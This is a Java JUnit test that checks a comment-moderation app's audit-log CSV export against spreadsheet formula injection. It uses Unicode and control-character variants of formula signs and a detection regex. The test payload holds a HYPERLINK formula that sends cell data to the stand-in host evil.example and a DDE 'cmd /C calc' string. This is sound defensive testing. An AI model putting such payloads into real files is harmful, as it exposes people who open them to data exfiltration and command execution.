package org.parley.desk;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.parley.comments.PageKey;
import org.parley.sites.SiteId;
import org.parley.staff.NewStaffUser;
import org.parley.staff.Role;
import org.parley.staff.StaffUser;
import org.parley.testing.Http;
import org.parley.testing.RunningParley;

/**
 * The audit log's CSV export opened as a spreadsheet would open it: readers' comments, names and page
 * keys and moderators' reasons that start like formulas come out as text, and everything else comes out
 * exactly as the JSON export has it. The CSV is read back with a real CSV parser.
 */
class AuditCsvTest {

    /** Starts a spreadsheet may take for a formula: OWASP's list, compatible forms, and after invisible or spacing characters. */
    static final List<String> FORMULA_STARTS = List.of("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−",
            "\u00a0=", "\u202f+", "\u200b@", "\ufeff-", "\u2007=");
    /** Starts only the door keeps (the dashboard's forms strip leading whitespace): tab, CR, LF and spaces before a formula. */
    static final List<String> CONTROL_STARTS = List.of("\t", "\r", "\n", "\t=", " =", "\u3000+", "\r\n@");
    /** What a spreadsheet would run, if nothing stopped it. */
    static final String PAYLOAD = "HYPERLINK(\"https://evil.example/?\"&A1,\"Click\"), 1+1;cmd|' /C calc'!A0";

    @TempDir
    static Path dir;
    static RunningParley parley;
    static Http http;
    static StaffUser admin;
    static String cookie;
    static String csrf;
    static final ObjectMapper JSON = new ObjectMapper();

    @BeforeAll
    static void start() {
        parley = RunningParley.start(dir);
        http = parley.http();
        parley.site("courier");
        admin = parley.parley().staff().createUser(new NewStaffUser("ed", Role.ADMIN, List.of()), "a long enough password");
        Http.Reply login = http.send("POST", "/admin/login", "username=ed&password=a+long+enough+password".getBytes(StandardCharsets.UTF_8),
                "Content-Type", "application/x-www-form-urlencoded", "Origin", http.base());
        assertThat(login.status()).isEqualTo(303);
        cookie = login.header("Set-Cookie").orElseThrow().split(";", 2)[0];
        Matcher token = Pattern.compile("name=\"csrf\" value=\"([^\"]+)\"").matcher(http.get("/admin", "Cookie", cookie).text());
        assertThat(token.find()).isTrue();
        csrf = token.group(1);
    }

    @AfterAll
    static void stop() {
        parley.close();
    }

    @Test
    void cellsThatCouldStartAFormulaAreTextAndEveryOtherCellIsExactlyWhatWasWritten() {
        Map<String, String> reasonByComment = new LinkedHashMap<>();
        for (String start : FORMULA_STARTS) {
            // Names may not hold invisible or spacing characters, so the name gets the visible sign alone.
            String id = comment("page-" + reasonByComment.size(), start + PAYLOAD, start.replaceAll("[\\p{Z}\\p{Cf}]", "") + "SUM(A1:A9)");
            reasonByComment.put(id, start + PAYLOAD);
            assertThat(reject(id, start + PAYLOAD).status()).isEqualTo(303);
        }
        Map<String, String> reasonByPage = new LinkedHashMap<>();
        for (String start : FORMULA_STARTS.subList(0, 10)) {
            String page = start + "page" + reasonByPage.size();
            comment(page, "On a page whose key starts like a formula", "Reader");
            reasonByPage.put(page, CONTROL_STARTS.get(reasonByPage.size() % CONTROL_STARTS.size()) + PAYLOAD);
            parley.parley().moderation().changePage(admin, new SiteId("courier"), new PageKey(page), Optional.empty(), false,
                    reasonByPage.get(page));
        }
        String plain = "Off topic, see \"rules\"\nthanks; a=b, -1 and @ed in the middle stay";
        String plainId = comment("plain", "Nothing special", "Plain Reader");
        assertThat(reject(plainId, plain).status()).isEqualTo(303);

        Http.Reply csv = http.get("/admin/audit.csv?site=courier", "Cookie", cookie);
        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.text()).as("every cell quoted, the header too").startsWith("\"id\",\"at\",\"actor_id\",");
        List<CSVRecord> rows = parse(csv.text());
        List<JsonNode> json = new ArrayList<>();
        http.get("/admin/audit.json?site=courier", "Cookie", cookie).json().forEach(json::add);
        assertThat(rows).hasSize(json.size()).hasSize(FORMULA_STARTS.size() + 10 + 1);

        for (int i = 0; i < rows.size(); i++) {
            CSVRecord row = rows.get(i);
            JsonNode entry = json.get(i);
            assertThat(row.size()).as("row %s has every column", i).isEqualTo(11);
            for (String cell : row.values()) {
                assertThat(startsLikeFormula(cell)).as("cell %s of row %s", show(cell), i).isFalse();
            }
            assertThat(row.get("id")).isEqualTo(entry.get("id").asText()).startsWith("a_");
            assertThat(row.get("at")).isEqualTo(entry.get("at").asText()).matches("\\d{4}-\\d\\d-\\d\\dT.*Z");
            assertThat(row.get("actor_id")).isEqualTo(entry.get("actorId").asText());
            assertThat(row.get("actor_name")).isEqualTo("ed");
            assertThat(row.get("site")).isEqualTo("courier");
            assertThat(row.get("action")).isEqualTo(entry.get("action").asText());
            assertThat(row.get("before")).isEqualTo(entry.get("before").toString()).startsWith("{");
            assertThat(row.get("after")).isEqualTo(entry.get("after").toString()).startsWith("{");
            String target = entry.get("targetId").asText();
            String reason = entry.get("reason").asText();
            if (reasonByComment.containsKey(target)) {
                assertThat(row.get("target_id")).isEqualTo(target);
                assertThat(reason).isEqualTo(reasonByComment.get(target));
                assertThat(row.get("reason")).as("a reason written like a formula").isEqualTo("'" + reason);
            } else if (reasonByPage.containsKey(target)) {
                assertThat(row.get("target_id")).as("a page key written like a formula").isEqualTo("'" + target);
                assertThat(reason).isEqualTo(reasonByPage.get(target));
                assertThat(row.get("reason")).as("a reason starting with a control character").isEqualTo("'" + reason);
            } else {
                assertThat(target).isEqualTo(plainId);
                assertThat(row.get("target_id")).isEqualTo(plainId);
                assertThat(row.get("reason")).as("commas, quotes, line breaks and a formula sign inside").isEqualTo(plain);
            }
        }
    }

    /** What a spreadsheet may run: a control character first, or a formula sign after spaces and invisible characters. */
    static boolean startsLikeFormula(String cell) {
        return cell.matches("(?s)\\p{Cc}.*") || cell.matches("(?s)[\\p{Z}\\s\\p{Cf}]*[=+\\-@＝＋－＠﹦﹢﹣﹫−].*");
    }

    static String show(String cell) {
        return cell.codePoints().limit(8).mapToObj(c -> c < 0x20 || c > 0x7e ? String.format("\\u%04x", c) : Character.toString(c))
                .reduce("", String::concat);
    }

    static List<CSVRecord> parse(String text) {
        try (CSVParser parser = CSVParser.parse(text, CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            assertThat(parser.getHeaderNames()).containsExactly("id", "at", "actor_id", "actor_name", "site", "action",
                    "target_kind", "target_id", "reason", "before", "after");
            return parser.getRecords();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static String comment(String page, String body, String name) {
        String json = JSON.createObjectNode().put("page", page).put("body", body).put("name", name).toString();
        Http.Reply reply = http.post("/api/v1/sites/courier/comments", json, "Authorization", "Bearer " + parley.guestToken("courier"));
        assertThat(reply.status()).as(reply.text()).isEqualTo(201);
        return reply.json().get("id").asText();
    }

    static Http.Reply reject(String id, String reason) {
        String form = "csrf=" + URLEncoder.encode(csrf, StandardCharsets.UTF_8) + "&reason=" + URLEncoder.encode(reason, StandardCharsets.UTF_8);
        return http.send("POST", "/admin/comments/" + id + "/reject", form.getBytes(StandardCharsets.UTF_8),
                "Content-Type", "application/x-www-form-urlencoded", "Origin", http.base(), "Cookie", cookie);
    }
}
